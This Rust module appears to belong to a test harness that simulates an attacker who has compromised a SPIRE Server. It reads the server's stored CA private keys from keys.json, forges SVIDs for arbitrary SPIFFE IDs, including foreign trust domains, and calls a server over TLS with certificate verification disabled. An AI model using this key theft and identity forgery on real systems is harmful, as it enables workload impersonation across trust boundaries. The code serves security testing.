//! Somebody who broke into SPIRE Server's machine: signs for whomever he likes, and calls with what he signed.

use std::net::SocketAddr;
use std::sync::Arc;

use anyhow::Context;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use entente_bundle::SpiffeId;
use rcgen::{
    CertificateParams, ExtendedKeyUsagePurpose, Issuer, KeyPair, KeyUsagePurpose, PublicKeyData, SanType,
};
use rustls::ClientConfig;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use crate::domain::Domain;
use crate::impostor::Svid;
use crate::tls_probe::AcceptAny;

const MAX_ANSWER: u64 = 64 << 10;

/// Signs an SVID for `id`, which may be of a foreign trust domain, with the active authority of `domain`, whose key real SPIRE Server
/// keeps on disk.
pub async fn sign(domain: &Domain, id: &SpiffeId) -> anyhow::Result<Svid> {
    let active = domain.api().x509_authorities().await?.active;
    let bundle = domain.api().bundle().await?;
    let mut authorities = bundle.x509_authorities().iter();
    let authority = authorities.find(|one| one.subject_key_id().as_deref() == Some(&active));
    let authority = authority.context("the active authority is not in the bundle")?.der();
    let key = stolen_key(domain, authority)?;
    let issuer = Issuer::from_ca_cert_der(authority, key).context("the authority cannot be read")?;
    let mut leaf = CertificateParams::default();
    leaf.subject_alt_names.push(SanType::URI(id.to_string().try_into().context("not an ASCII ID")?));
    leaf.key_usages = vec![KeyUsagePurpose::DigitalSignature];
    leaf.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth, ExtendedKeyUsagePurpose::ServerAuth];
    let key = KeyPair::generate().context("cannot make a key")?;
    let leaf = leaf.signed_by(&key, &issuer).context("cannot sign")?;
    Ok(Svid::new(vec![leaf.der().to_vec()], key.serialize_der()))
}

/// The key of `authority` among those that the server keeps.
fn stolen_key(domain: &Domain, authority: &CertificateDer<'_>) -> anyhow::Result<KeyPair> {
    let path = domain.home().file("server-data").join("keys.json");
    let stored = std::fs::read(&path).with_context(|| format!("cannot read {}", path.display()))?;
    let stored: serde_json::Value = serde_json::from_slice(&stored).context("the keys are no JSON")?;
    let keys = stored.get("keys").and_then(|keys| keys.as_object()).context("no keys are stored")?;
    let mut keys =
        keys.values().filter_map(|key| KeyPair::try_from(STANDARD.decode(key.as_str()?).ok()?).ok());
    let (_, certificate) = x509_parser::parse_x509_certificate(authority).context("no certificate")?;
    let public = certificate.public_key().raw;
    keys.find(|key| key.subject_public_key_info() == public).context("the authority's key is not stored")
}

/// Shows `svid` to a server, takes whatever the server shows, and answers the first line that a GET is answered with. An error when
/// the server refuses.
pub async fn call(address: SocketAddr, svid: &Svid) -> anyhow::Result<String> {
    let (chain, key) = svid.parts();
    let chain = chain.iter().cloned().map(CertificateDer::from).collect();
    let key = PrivateKeyDer::try_from(key.to_vec()).map_err(|reason| anyhow::anyhow!("no key: {reason}"))?;
    let config = ClientConfig::builder_with_provider(entente_bundle::tls::provider())
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(AcceptAny::new())
        .with_client_auth_cert(chain, key)?;
    let tcp = TcpStream::connect(address).await.context("cannot connect")?;
    let name = ServerName::try_from("localhost")?;
    let mut tls = TlsConnector::from(Arc::new(config)).connect(name, tcp).await.context("TLS")?;
    tls.write_all(b"GET / HTTP/1.1\r\nhost: lab\r\nconnection: close\r\n\r\n").await?;
    let mut answer = Vec::new();
    // In TLS 1.3 a server that refuses a certificate says so where its answer would come.
    tls.take(MAX_ANSWER).read_to_end(&mut answer).await?;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    answer.lines().next().map(str::to_owned).context("no answer")
}
